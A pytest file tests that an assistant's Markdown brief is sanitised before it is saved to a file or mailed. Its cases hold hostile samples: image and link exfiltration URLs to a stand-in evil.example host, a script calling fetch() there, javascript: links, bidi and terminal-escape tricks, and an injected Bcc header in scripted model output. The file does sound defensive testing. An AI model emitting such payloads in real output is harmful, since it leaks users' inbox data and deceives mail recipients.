"""The brief a file or a mail sink writes: the model's Markdown made inert (issue 19.5)."""

from __future__ import annotations

import json
from email import message_from_bytes
from pathlib import Path

import pytest

from dayflow.safe_text import REMOVED, inert_markdown
from dayflow.shown import shown_in
from tests.harness import Result, invoke
from tests.mailkit import json_message, write_json_inbox
from tests.scripted import ScriptedModel, text, tool_use, turn

MAIL_URL = "https://portal.example.org/lease/4411"
EVIL = "http://evil.example/?q=inbox"


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        # control characters, bidi overrides and zero-width marks: visible escapes
        ("a \x1b[31mred\x1b[0m b", "a \\u001b[31mred\\u001b[0m b"),
        ("bell\x07 and nul\x00", "bell\\u0007 and nul\\u0000"),
        ("pay \u202eeulav\u202c now", "pay \\u202eeulav\\u202c now"),
        ("zero\u200bwidth\u2060joiner\ufeff", "zero\\u200bwidth\\u2060joiner\\ufeff"),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        # images: always their alt text, whatever the syntax
        (f"![x]({EVIL})", "x"),
        (f'![chart]({EVIL} "title")', "chart"),
        ("![a][1]\n\n[1]: http://evil.example/p.png", "a\n\n"),
        ("![a]\n\n[a]: http://evil.example/p.png", "a\n\n"),
        (f'<img src="{EVIL}">', '&lt;img src="(link removed)">'),
        (f"[![x]({EVIL})]({EVIL})", "x"),
        # links to addresses the run never read: their text only
        (f"[click]({EVIL})", "click"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "x"),
        ("[x](javascript:alert(1))", "x)"),
        (f"<{EVIL}>", REMOVED),
        (f"see {EVIL}.", f"see {REMOVED}."),
        ("see www.evil.example/x", f"see {REMOVED}"),
        ("data:text/html,<script>x</script>", f"{REMOVED},&lt;script>x&lt;/script>"),
        # raw HTML and comments (a fake section mark included): escaped
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("\\<script>", "\\&lt;script>"),
        ("<!-- end of dayflow brief abc -->", "&lt;!-- end of dayflow brief abc -->"),
        ("a < b and 3<4", "a < b and 3<4"),
        # the user's own links, and plain Markdown, unchanged
        (f"[the lease]({MAIL_URL})", f"[the lease]({MAIL_URL})"),
        (f"<{MAIL_URL}>", f"<{MAIL_URL}>"),
        (f"sign at {MAIL_URL}.", f"sign at {MAIL_URL}."),
        (f"the lease ({MAIL_URL})", f"the lease ({MAIL_URL})"),
        (f"[see ({MAIL_URL})]", f"[see ({MAIL_URL})]"),
        (f"the prize ({EVIL})", f"the prize ({REMOVED})"),
        ("**Bold** _it_ `code` — ok", "**Bold** _it_ `code` — ok"),
        ("<ana@example.org>", "ana@example.org"),
    ],
)
def test_the_models_markdown_is_made_inert(written: str, expected: str) -> None:
    assert inert_markdown(written, frozenset({MAIL_URL})) == expected


def test_inert_text_is_stable() -> None:
    """A redone delivery writes the same bytes, and making inert twice changes nothing more."""
    once = inert_markdown(f"![x]({EVIL}) <b>hi</b> \u202e [ok]({MAIL_URL})", frozenset({MAIL_URL}))
    assert inert_markdown(once, frozenset({MAIL_URL})) == once


def test_the_links_a_run_read_come_from_its_mail_and_calendar_only() -> None:
    listing = {"messages": [{"id": "a:1", "key": "mail:1", "snippet": f"Sign at {MAIL_URL}."}]}
    calendar = {"events": [{"id": "c:1", "title": "Call", "location": "https://meet.example/x"}]}
    tasks = {"tasks": [{"id": "t", "idempotency_key": "k", "title": "see https://t.example/y"}]}
    uses = [
        {"type": "tool_use", "id": f"u{i}", "name": name, "input": {}}
        for i, name in enumerate(("read_inbox", "read_calendar", "read_tasks"))
    ]
    results = [
        {"type": "tool_result", "tool_use_id": f"u{i}", "content": json.dumps(payload)}
        for i, payload in enumerate((listing, calendar, tasks))
    ]
    shown = shown_in([{"role": "assistant", "content": uses}, {"role": "user", "content": results}])
    assert shown.urls == {MAIL_URL, "https://meet.example/x"}


BRIEF = (
    "# Brief\n\x1b]8;;http://evil.example\x07term\x1b]8;;\x07\n"
    f"![x]({EVIL})\n<script>fetch('{EVIL}')</script>\n"
    f"Sign [the lease]({MAIL_URL}) or [this]({EVIL}).\n\u202eevil\n"
)


def _inbox(tmp_path: Path) -> Path:
    body = f"Please sign at {MAIL_URL} by Friday."
    message = json_message(
        "m1", "Rosa <rosa@example.org>", "Lease", "2026-11-05T06:00:00+00:00", body=body
    )
    return write_json_inbox(tmp_path / "inbox.json", message)


def _model() -> ScriptedModel:
    return ScriptedModel([turn(tool_use("read_inbox", {"limit": 20})), turn(text(BRIEF))])


def _deliver(tmp_path: Path, model: ScriptedModel, sink: str, **env: str) -> Result:
    """A brief of the scripted model over the one-message inbox, delivered to `sink`."""
    inbox = str(_inbox(tmp_path))
    args = ("brief", "--model", "scripted", "--inbox", inbox, "--deliver", sink)
    return invoke(tmp_path / "d.db", lambda n, s: model, *args, env=env or None)


def _check(delivered: str) -> None:
    assert "\x1b" not in delivered and "\u202e" not in delivered and "\x07" not in delivered
    assert "<script>" not in delivered and "evil.example" not in delivered
    assert f"[the lease]({MAIL_URL})" in delivered and "or this." in delivered


def test_a_file_sink_writes_the_brief_inert_but_keeps_the_users_own_links(
    tmp_path: Path,
) -> None:
    model = _model()
    note = tmp_path / "note.md"
    result = _deliver(tmp_path, model, f"file:{note}")
    assert result.code == 0, result.err
    _check(note.read_text())


def test_a_mail_sink_sends_the_brief_inert_with_only_its_own_headers(tmp_path: Path) -> None:
    from tests.test_delivery import SmtpServer, config, free_port

    port = free_port()
    model = ScriptedModel(
        [
            turn(tool_use("read_inbox", {"limit": 20})),
            turn(text(BRIEF + "\r\nBcc: victim@example.org\r\nSubject: hi\r\n")),
        ]
    )
    with SmtpServer(port) as server:
        result = _deliver(tmp_path, model, "smtp", DAYFLOW_CONFIG=str(config(tmp_path, port)))
        assert result.code == 0, result.err
    (raw,) = server.inbox.messages
    mail = message_from_bytes(raw)
    headers = sorted(k for k in mail.keys())
    assert headers == sorted(
        ["From", "To", "Subject", "Date", "Message-ID", "X-Dayflow-Run", "MIME-Version",
         "Content-Type"]
    )  # fmt: skip
    assert mail["Bcc"] is None and mail["Subject"].startswith("Dayflow: your brief for")
    from email import policy
    from email.message import EmailMessage

    parts = message_from_bytes(raw, _class=EmailMessage, policy=policy.default)
    plain, page = parts.get_body(("plain",)), parts.get_body(("html",))
    assert plain is not None and page is not None
    _check(plain.get_content())
    assert "Bcc" not in page.get_content()
